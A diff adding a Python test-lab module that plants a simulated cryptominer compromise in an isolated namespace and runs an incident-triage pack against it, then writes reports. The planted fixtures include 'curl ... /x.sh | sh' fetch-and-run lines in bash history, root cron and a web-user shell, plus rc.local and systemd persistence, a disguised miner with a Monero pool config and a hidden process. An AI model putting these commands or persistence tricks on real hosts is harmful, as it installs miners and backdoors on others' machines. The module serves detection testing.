@@ -1,0 +1,146 @@
+"""One whole incident, planted in a room and examined with the whole pack: `python -m tests.lab.incident FOLDER`.
+
+Writes the report of it to FOLDER in every form and language, and a picture of each HTML report where Chromium is installed.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import traceback
+from pathlib import Path
+from typing import Any
+
+from extension.report import html as html_report
+from extension.report import json as json_report
+from extension.report import markdown as markdown_report
+from extension.report import text as text_report
+from extension.report.facts import Facts, collect
+from extension.triage import Triage, run_triage
+from tests.lab.cases_accounts import second_root, worm_key
+from tests.lab.cases_connections import configuration
+from tests.lab.cases_logins import accepted, guessing, keep, log
+from tests.lab.enter import REPOSITORY, build_root
+from tests.lab.experiment import PACK
+from tests.lab.namespaces import bring_up_loopback, end_with_parent, mount
+from tests.lab.room import CONTROL_SERVER, LISTED_POOL, POOL, Room
+from tests.lab.wallets import XMR
+from tests.support.chromium import Chromium, find_chromium
+from tests.support.saved_triage import triage_from
+
+_MS_MOVE = 8192
+_MODULE = "tests.lab.incident"
+_TIMEOUT = 300
+
+
+def plant(room: Room) -> None:
+    """A guessed password, a download, a miner and what brings it back."""
+    now = time.time()
+    keep(room, "/var/log/auth.log", log([*guessing("203.0.113.10"), accepted("203.0.113.10", "root")], ago=9000))
+    room.write("/root/.bash_history", f"#{now - 8900:.0f}\ncurl -fsSL http://{CONTROL_SERVER[0]}/x.sh | bash\n", 0o600)
+    room.write("/etc/rc.local", "#!/bin/sh\nnohup /var/tmp/.font/kswapd0 >/dev/null 2>&1 &\nexit 0\n", 0o755)
+    room.write("/var/spool/cron/crontabs/root", f"*/5 * * * * curl -fsSL http://{CONTROL_SERVER[0]}/x.sh | sh\n", 0o600)
+    room.write(
+        "/etc/systemd/system/dbus-monitor.service",
+        "[Service]\nExecStart=/var/tmp/.font/kswapd0\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
+    )
+    worm_key.plant(room)
+    second_root.plant(room)
+    pool = "{}:{}".format(*LISTED_POOL)
+    room.write("/var/tmp/.font/config.json", configuration(pool, user=XMR))
+    miner = room.program("/var/tmp/.font/kswapd0", is_busy=True)
+    room.program("/dev/shm/.x")
+    room.orphan("sh", room.write("/var/tmp/.font/guard.sh", "read hold\n", 0o755))
+    room.connect(LISTED_POOL, miner, "-o", pool, "-u", XMR)
+    room.listen("0.0.0.0", 5555, room.program("/tmp/sshd-agent"))
+    hidden = room.connect(POOL, room.program("/usr/lib/.cache/udevd"))
+    room.mount("none", f"/proc/{hidden}", "tmpfs", 0)
+    script = "read hold; curl -fsSL http://203.0.113.9/x.sh | sh"
+    room.start("sh", "-c", script, user=33, group=33, extra_groups=[])
+    gone = room.program("/opt/run/worker")
+    room.start("[kworker/u8:3]", executable=gone)
+    os.unlink(gone)
+    for path, ago in (("/etc/rc.local", 8700), ("/var/spool/cron/crontabs/root", 8640), ("/etc/passwd", 5000), (miner, 8820)):
+        os.utime(path, (now - ago, now - ago))
+
+
+def examine() -> tuple[Triage, Facts]:
+    """Plant the incident in a room of its own, as root, and run the pack there."""
+    flags = ["--mount", "--propagation", "private", "--net", "--uts", "--pid", "--fork", "--kill-child"]
+    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY), "PYTHONDONTWRITEBYTECODE": "1"}
+    with tempfile.TemporaryDirectory(prefix="minehunt-lab-") as folder:
+        command = ["unshare", *flags, sys.executable, "-m", _MODULE, "--enter", folder]
+        done = subprocess.run(
+            command, cwd=REPOSITORY, env=environment, capture_output=True, text=True, timeout=_TIMEOUT, stdin=subprocess.DEVNULL
+        )
+    for line in done.stdout.splitlines():
+        if line.startswith("ANSWER "):
+            answer: dict[str, Any] = json.loads(line[len("ANSWER ") :])
+            facts = answer["facts"]
+            return triage_from(answer["triage"]), Facts(facts["host"], tuple(facts["indicators"]), tuple(facts["known_good"]))
+    raise RuntimeError(f"no answer (exit {done.returncode})\n{done.stdout}{done.stderr}")
+
+
+def _enter(folder: str) -> None:
+    socket.sethostname("web-03")
+    os.chdir(build_root(folder))
+    mount(".", "/", flags=_MS_MOVE)
+    os.chroot(".")
+    os.chdir("/")
+    os.execv(sys.executable, [sys.executable, "-m", _MODULE, "--inside"])
+
+
+def _inside() -> int:
+    """Be init: plant and ask in a child, and reap what is orphaned meanwhile."""
+    worker = os.fork()
+    if worker == 0:
+        end_with_parent()
+        try:
+            bring_up_loopback(POOL[0], LISTED_POOL[0], CONTROL_SERVER[0])
+            Path("/etc/lab-pools.txt").write_text("{}:{}\n".format(*POOL))
+            room = Room()
+            plant(room)
+            triage = run_triage(PACK, room.engine)
+            facts = vars(collect(room.engine))
+            room.clear()
+            print("ANSWER " + json.dumps({"triage": json_report.as_document(triage), "facts": facts}), flush=True)
+        except BaseException:
+            traceback.print_exc()
+            os._exit(1)
+        os._exit(0)
+    while True:
+        pid, status = os.wait()
+        if pid == worker:
+            return os.waitstatus_to_exitcode(status)
+
+
+def main(folder: str) -> int:
+    """Write the reports of the incident; print their paths."""
+    triage, facts = examine()
+    target = Path(folder)
+    target.mkdir(parents=True, exist_ok=True)
+    (target / "incident.json").write_text(json_report.render(triage))
+    (target / "facts.json").write_text(json.dumps(vars(facts)))
+    for language in ("en", "zh"):
+        page = target / f"incident.{language}.html"
+        page.write_text(html_report.render(triage, facts, language))
+        (target / f"incident.{language}.md").write_text(markdown_report.render(triage, facts, language))
+        (target / f"incident.{language}.txt").write_text(text_report.render(triage, language))
+        if find_chromium():
+            with Chromium() as browser:
+                browser.open(page.resolve().as_uri())
+                (target / f"incident.{language}.png").write_bytes(browser.screenshot())
+    print(*sorted(map(str, target.iterdir())), sep="\n")
+    return 0
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "--enter":
+        _enter(sys.argv[2])
+    sys.exit(_inside() if sys.argv[1] == "--inside" else main(sys.argv[1]))
